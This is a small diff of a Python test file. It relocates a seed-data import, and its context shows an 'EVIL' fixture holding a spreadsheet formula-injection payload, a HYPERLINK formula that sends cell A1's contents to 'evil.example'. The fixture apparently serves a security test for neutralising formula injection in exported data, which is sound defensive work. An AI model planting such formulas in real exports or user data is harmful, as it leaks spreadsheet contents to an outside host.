@@ -13,8 +13,8 @@ import json
 import pytest
 
 from models.catalog import ServiceItem, Staff
-from tests.public_seed import insert_case, insert_rating, seed_catalog
 from tests.support.admins import admin_token
+from tests.support.public_seed import insert_case, insert_rating, seed_catalog
 
 EVIL = {
     "item": '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
